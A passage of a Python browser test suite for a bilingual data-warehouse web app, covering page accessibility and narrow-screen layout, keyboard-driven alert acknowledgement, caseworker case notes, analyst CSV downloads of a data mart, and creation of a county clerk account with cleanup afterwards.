    behind = {
        OWN_LOGIN: ["/deliveries/1", "/publications/1", "/publications/1/roll-back", "/gates?passed=true&gate=1"],
        "wh_analyst": ["/marts/target_progress", LONGEST_MART],
        "caseworker_532528": of_a_case(wide, url) if role == "caseworker_532528" else [],
    }[role]
    for path in [*menu_of(wide), *behind]:
        wide.goto(url + path)
        assert (path, serious(wide)) == (path, [])
        narrow.goto(url + path)
        assert (path, narrow.evaluate("document.documentElement.scrollWidth")) == (path, 390)
        assert wide.locator("h1").count() == 1
    wide.set_content("<html><body><img src='data:,'><a href='/'></a></body></html>")
    assert len(serious(wide)) >= 2


@pytest.mark.browser
def test_an_operator_works_by_the_keyboard_and_in_english(person: Person, url: str) -> None:
    page = person(OWN_LOGIN)
    page.get_by_role("link", name="English").focus()
    page.keyboard.press("Enter")
    page.get_by_role("link", name="Alerts", exact=True).focus()
    page.keyboard.press("Enter")
    expect(page.locator(".lead")).to_contain_text("to be acknowledged")
    first = page.locator("main section").first
    first.get_by_label("Note").fill("called them today")
    first.get_by_role("button", name="Acknowledge").press("Enter")
    expect(page.get_by_role("status")).to_contain_text("is acknowledged")
    page.goto(f"{url}/acts")
    expect(page.locator("tbody tr").first).to_contain_text("called them today")


@pytest.mark.browser
def test_a_case_worker_finds_a_case_and_explains_it(person: Person) -> None:
    page = person("caseworker_532528")
    page.get_by_role("link", name="待办事项").click()
    page.locator("main tbody a").last.click()
    page.get_by_label("说明情况").fill("本月已就业，待下次报送")
    page.get_by_role("button", name="登记说明").click()
    expect(page.get_by_role("status")).to_contain_text("已登记说明")
    expect(page.locator("main")).to_contain_text("本月已就业，待下次报送")


@pytest.mark.browser
def test_an_analyst_finds_a_mart_and_downloads_it(person: Person) -> None:
    page = person("wh_analyst")
    page.get_by_role("link", name="监测表").click()
    page.get_by_label("按名称或含义查找").fill("target_prog")
    page.get_by_role("button", name="查找").click()
    page.get_by_role("link", name="target_progress").click()
    with page.expect_download() as download:
        page.get_by_role("link", name="下载 CSV").click()
    assert "532528" in Path(download.value.path()).read_text("utf-8-sig")


@pytest.mark.browser
def test_an_operator_adds_a_county_clerk_who_signs_in(person: Person, url: str, warehouse_server: Server) -> None:
    page = person(OWN_LOGIN)
    try:
        page.get_by_role("link", name="用户").click()
        page.get_by_label("登录名").fill("new_clerk")
        page.get_by_label("县市", exact=False).last.select_option("532528")
        page.get_by_role("button", name="新增，并显示口令").click()
        password = page.locator("p.said code").inner_text()
        page.get_by_role("button", name="退出").click()
        sign_in(page, url, "new_clerk", password)
        expect(page.locator(".who")).to_contain_text("new_clerk · 元阳县")
    finally:
        with warehouse_server.connect_superuser() as connection:
            connection.execute("drop role if exists new_clerk")
            connection.execute("delete from ops.reader_county where login = 'new_clerk'")
